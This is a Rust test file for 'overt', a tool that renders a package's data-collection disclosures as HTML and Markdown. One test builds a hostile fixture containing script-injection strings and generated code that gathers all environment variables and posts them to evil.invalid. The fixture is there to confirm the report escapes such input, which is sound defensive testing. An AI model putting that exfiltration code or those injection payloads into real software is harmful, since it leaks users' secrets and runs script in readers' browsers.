//! The disclosure document: what it says of a small package, and that a hostile tree can put
//! nothing into it but text.

use std::path::PathBuf;

use overt::check::{Checked, Options, check};
use overt::files::FileSystem;
use overt::report::document::{Document, document, html, markdown};

fn run(system: FileSystem, path: PathBuf) -> Checked {
    let options = Options {
        paths: vec![path],
        suppressions: true,
        inventory: true,
        show_disclosed: true,
        threads: Some(1),
        system,
        ..Options::default()
    };
    check(&options, &|_| {}).unwrap_or_else(|error| panic!("{error}"))
}

/// The package of the command line's tests, without the version that changes.
fn tidy() -> Document {
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
    let checked = run(FileSystem::Disk, root.join("tests/cmd/report.in/tidy"));
    Document {
        version: "0.0.0",
        config: Some("overt.toml".to_owned()),
        ..document(&checked, "tidy")
    }
}

#[test]
fn the_page_is_what_it_was() {
    insta::assert_snapshot!(html::render(&tidy()).unwrap());
}

#[test]
fn both_formats_say_the_same() {
    let document = tidy();
    let (html, markdown) = (html::render(&document).unwrap(), markdown::render(&document).unwrap());
    for part in ["elsewhere.invalid", "count.invalid", "crash-reports", "licence", "Germany"] {
        assert!(html.contains(part), "{part}");
        assert!(markdown.contains(part), "{part}");
    }
}

#[test]
fn a_disclosure_is_shown_with_what_it_covers() {
    let document = tidy();
    let ids = |said: &[overt::report::document::Said]| -> Vec<String> {
        said.iter().map(|one| one.id.clone()).collect()
    };
    assert_eq!(ids(&document.collected), ["crash-reports", "statistics", "licence"]);
    assert_eq!(ids(&document.doors), ["metrics"]);
    assert!(document.tally.disclosed >= 1 && document.tally.undisclosed >= 1, "{document:#?}");
    assert!(document.tally.partly >= 1, "{document:#?}");
    let by = |host: &str| {
        document.destinations.iter().find(|one| one.host == host).map(|one| one.by.clone())
    };
    assert_eq!(by("crash.invalid"), Some(vec!["crash-reports".to_owned()]));
    assert_eq!(by("elsewhere.invalid"), Some(Vec::new()));
    assert_eq!(document.unknown.chosen.len(), 1, "{:#?}", document.unknown.chosen);
    let licence = &document.collected[2];
    assert!(!licence.remarks.is_empty() && licence.places.is_empty(), "{licence:#?}");
}

#[test]
fn clauses_are_judged_one_by_one() {
    let policy = tidy().policy.expect("the policy is in the configuration");
    let verdicts: Vec<(&str, &str)> =
        policy.clauses.iter().map(|one| (one.id.as_str(), one.class)).collect();
    assert_eq!(verdicts.len(), 8);
    assert!(verdicts.contains(&("3", "bad")), "{verdicts:?}");
    assert!(verdicts.contains(&("6", "unknown")), "{verdicts:?}");
    assert!(verdicts.contains(&("7", "good")), "{verdicts:?}");
}

const EVIL: &str = "<script>alert(1)</script>\"'`|[x](javascript:alert(2))&lt;\u{202e}\u{1b}[2J";

/// Every string that the tree can choose: paths, package, hosts, items, texts, disclosures.
#[test]
fn nothing_of_the_tree_is_markup() {
    let literal = EVIL.escape_default().to_string();
    let manifest = "[package]\nname = \"<b>x</b>\"\nversion = \"1.0.0-<i>\"\nedition = \"2024\"\n";
    let code = format!(
        "pub fn go() {{\n    let all: String = std::env::vars().map(|(k, v)| k + &v).collect();\n    \
         let _ = ureq::post(\"https://evil.invalid/{literal}\").send(&all);\n    \
         let _ = ureq::get(\"https://<script>.invalid/\").call();\n    \
         let _ = std::process::Command::new(\"sh\").arg(\"{literal}\").spawn();\n}}\n"
    );
    let config = format!(
        "[scope]\nexclude = [{{ path = \"src/none.rs\", reason = \"{0}\" }}]\n[[disclosure]]\n\
         id = \"x\"\ncollects = [\"usage\"]\nto = [\"evil.invalid\"]\n\
         documented-at = \"a.md#{0}\"\n",
        EVIL.replace('\\', "").replace('"', "\\\"").replace(['\u{1b}', '\u{202e}'], ""),
    );
    let files = [
        ("/t/Cargo.toml", manifest.to_owned()),
        ("/t/overt.toml", config),
        ("/t/src/lib.rs", "#[path = \"<script>.rs\"]\npub mod evil;\n".to_owned()),
        ("/t/src/<script>.rs", code),
        ("/t/src/none.rs", "fn none() {}".to_owned()),
        ("/t/src/<img src=x onerror=alert(3)>.rs", "fn broken( {".to_owned()),
    ];
    let checked = run(FileSystem::memory(files), PathBuf::from("/t"));
    assert!(!checked.report.findings.is_empty());
    let document = document(&checked, EVIL);
    let page = html::render(&document).unwrap();
    let text = markdown::render(&document).unwrap();
    assert!(page.contains("&#60;script&#62;"), "it is shown");
    for tag in tags(&page) {
        let name = tag.trim_start_matches('/').split([' ', '\n']).next().unwrap_or_default();
        let mine = [
            "!DOCTYPE", "html", "head", "meta", "title", "style", "body", "header", "h1", "h2",
            "h3", "p", "ul", "ol", "li", "b", "em", "nav", "a", "main", "section", "article",
            "div", "dl", "dt", "dd", "code", "details", "summary", "table", "thead", "tbody", "tr",
            "th", "td", "span", "cite",
        ];
        assert!(mine.contains(&name), "<{tag}>");
        for attribute in ["onerror", "javascript:", "src="] {
            assert!(!tag.contains(attribute), "<{tag}>");
        }
    }
    let events = pulldown_cmark::Parser::new_ext(&text, pulldown_cmark::Options::all());
    for event in events {
        use pulldown_cmark::{Event, Tag};
        let bad = matches!(
            event,
            Event::Html(_)
                | Event::InlineHtml(_)
                | Event::Start(Tag::Link { .. } | Tag::Image { .. })
        );
        assert!(!bad, "{event:?}");
    }
    for output in [&page, &text] {
        assert!(!output.contains(['\u{202e}', '\u{1b}']));
    }
}

/// What stands between `<` and `>`.
fn tags(page: &str) -> impl Iterator<Item = &str> {
    page.split('<').skip(1).filter_map(|rest| rest.split('>').next())
}
